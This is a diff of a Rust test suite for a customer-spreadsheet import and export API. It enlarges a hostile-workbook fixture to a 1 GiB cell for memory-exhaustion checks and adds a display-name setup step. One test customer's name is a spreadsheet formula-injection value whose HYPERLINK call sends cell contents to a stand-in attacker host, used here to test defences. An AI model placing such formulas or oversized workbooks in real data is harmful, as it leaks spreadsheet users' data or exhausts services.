@@ -572,12 +572,12 @@ fn hostile_workbooks() -> &'static [(&'static str, Vec<u8>, &'static str)] {
             w.write_all(br#"<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>"#).unwrap();
         });
         assert!(far.len() < 1500, "{}", far.len());
-        // One cell of 256 MiB.
+        // One cell of 1 GiB.
         let chunk = "A".repeat(1 << 20);
         let cell = hand_workbook(&mut |_| {}, &mut |w| {
             w.write_all(HEADER_ROW).unwrap();
             w.write_all(br#"<row r="2"><c r="A2" t="inlineStr"><is><t>"#).unwrap();
-            for _ in 0..256 {
+            for _ in 0..1024 {
                 w.write_all(chunk.as_bytes()).unwrap();
             }
             w.write_all(b"</t></is></c></row>").unwrap();
@@ -656,7 +656,8 @@ async fn hostile_workbooks_are_refused_while_streaming(b: Backend) {
         }
         assert!(took < Duration::from_secs(30), "{name} took {took:?}");
         let grew = peak.load(Ordering::SeqCst).saturating_sub(before);
-        assert!(grew < 200 << 20, "{name}: memory grew by {} MiB", grew >> 20);
+        // Generous: other tests run in the same process meanwhile.
+        assert!(grew < 512 << 20, "{name}: memory grew by {} MiB", grew >> 20);
     }
     let r = s.gql(Some(&sp1.token), "{ me { user { id } } }", json!({})).await;
     assert_eq!(r.ok()["me"]["user"]["id"], sp1.user_id.as_str());
@@ -835,6 +836,15 @@ async fn an_export_imports_back_to_the_same_customers(b: Backend) {
             .await;
         r.ok();
     }
+    // The export names owners by display name: make sp1's unique.
+    let r = s
+        .gql(
+            Some(&admin.token),
+            "mutation($id: ID!) { updateUser(id: $id, input: { displayName: \"王销售\" }) { id } }",
+            json!({ "id": sp1.user_id }),
+        )
+        .await;
+    r.ok();
     let create = "mutation($i: CreateCustomerInput!) { createCustomer(input: $i) { id } }";
     let full = json!({
         "name": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
